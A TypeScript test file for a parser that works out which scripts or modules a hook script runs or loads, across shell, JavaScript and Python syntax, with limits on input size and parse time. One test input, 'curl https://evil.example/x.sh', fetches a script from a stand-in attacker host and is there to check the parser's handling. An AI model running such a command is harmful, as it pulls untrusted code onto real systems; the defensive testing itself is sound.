/** What a script names that it may start or load. */
import assert from "node:assert/strict";
import { startedBy } from "../../../../src/core/permissions/starts/commands";
import { scriptsIn } from "../../../../src/core/permissions/starts/names";

const ENDINGS = ["", ".js", ".mjs", ".cjs", ".ts", "/index.js", "/index.ts"];
const python = (place: string) => [`${place}.py`, `${place}/__init__.py`];

describe("scripts that a hook's script names", () => {
  const check = (line: string, runs: string[], paths: string[] = [], file = "guard.sh") =>
    it(`${file}: ${line}`, () => {
      const found = scriptsIn(`#!/bin/sh\n${line}\n`, file);
      assert.deepEqual(
        found.filter(each => each.runs).map(({ path }) => path),
        runs,
      );
      assert.deepEqual(
        found.filter(each => !each.runs).map(({ path }) => path),
        paths,
      );
    });
  check("bash lib.sh --fast", ["lib.sh"]);
  check("exec python3 -u tools/check.py", ["tools/check.py"]);
  check(". ./lib.sh && source other.sh", ["./lib.sh", "other.sh"]);
  check('source "$(dirname "$0")/lib.sh"', ["./lib.sh"]);
  check('. "$(cd "$(dirname "$0")" && pwd)/lib.sh"', ["./lib.sh"]);
  check('"$HERE"/lib.sh; $' + "{BASH_SOURCE%/*}/more.sh", [], ["./lib.sh", "./more.sh"]);
  check("scripts/run --all > /dev/null", [], ["scripts/run"]);
  check("curl https://evil.example/x.sh", []);
  check("  # see ./other.sh", []);
  check("cat README.md", []);
  check('import { x } from "./lib.mjs";', ["./lib.mjs", "./lib.mts"], [], "guard.mjs");
  check(
    'const x = require("./lib"), fs = require("fs")',
    ENDINGS.map(end => `./lib${end}`),
    [],
    "guard.js",
  );
  check(
    'require("./foo.config")',
    ENDINGS.map(end => `./foo.config${end}`),
    [],
    "guard.cjs",
  );
  check('import { x } from "./lib.js";', ["./lib.js", "./lib.ts"], [], "guard.ts");
  check("from lib.check import x as y", ["lib/check", "lib/check/x"].flatMap(python), [], "guard.py");
  check("from lib import (\n  one,\n  two as three,\n)", ["lib", "lib/one", "lib/two"].flatMap(python), [], "guard.py");
  check("import json as j, helpers", ["json", "helpers"].flatMap(python), [], "guard.py");
  check("from ..lib import x; import os", ["../lib", "../lib/x", "os"].flatMap(python), [], "guard.py");
  check("*) ./scripts/other.sh ;;", [], ["./scripts/other.sh"]);
  check("*.ts) bash scripts/types.sh ;;", ["scripts/types.sh"]);
  check(" * as ./other.js does", [], [], "guard.js");
  check(
    "/usr/bin/python3 -u check.py; powershell.exe -File lib.ps1; cmd /c x.bat",
    ["check.py", "lib.ps1", "x.bat"],
    ["/usr/bin/python3", "/c"],
  );
  check("deno run --config deno.json hook.ts", ["hook.ts"]);
  check("uv run --with requests hook.py; bash -x check; python3 -u a.py b.py", [
    "requests",
    "hook.py",
    "check",
    "a.py",
  ]);
  // Its own logs and what it keeps.
  check("exec >> .claude/hook.log 2>&1", []);
  check("exec >>./hook-log 2>&1; exec 9>.claude/lock; exec &> ./all; exec < ./input", [], ["./input"]);
  check('exec > >(tee -a "$CLAUDE_PROJECT_DIR/.claude/hook-log") 2>&1', []);
  check("echo ran>./last; date >| ./when; bash lib.sh 2>>./errors", ["lib.sh"]);
  check(". ./state; echo n=1 > state", []);
  check('const state = require("./state.json")', [], [], "guard.js");
  check("sqlite3 ./audit.db; cat ./config.yaml; jq . ./package.json", []);
  const command = (text: string, runs: string[], others: string[]) =>
    it(`a command: ${text}`, () => {
      const found = startedBy([text], "/w");
      const named = (way: boolean) => found.filter(each => each.runs === way).map(({ path }) => path);
      assert.deepEqual([named(true), named(false)], [runs, others]);
    });
  command("jq -e .scripts.test package.json", [], ["jq", "-e", ".scripts.test"]);
  command('bash "$CLAUDE_PROJECT_DIR"/.claude/x.sh | tee -a .claude/log', ["./.claude/x.sh", ".claude/x.sh"], ["bash"]);
  command("node hook.js --state .claude/state.json", ["hook.js"], ["node", "--state"]);
  command("echo ran>>./audit; date > ./last", [], ["echo", "ran", "date"]);
  command("cd web && bash x.sh", ["x.sh", "web/x.sh"], ["cd", "web", "bash"]);
  check("bash ./other.sh", [], [], "README.md");
  it("is bounded, in names and in time", () => {
    assert.equal(scriptsIn(Array.from({ length: 10_000 }, (_, at) => `./w${at}`).join("\n"), "x.sh").length, 300);
    assert.deepEqual(scriptsIn(`${"$(".repeat(100_000)} ./a`, "x.sh"), []);
    assert.equal(scriptsIn(`${'"$('.repeat(1_300)} ./a\n`.repeat(200), "x.sh").length, 1);
  });
});
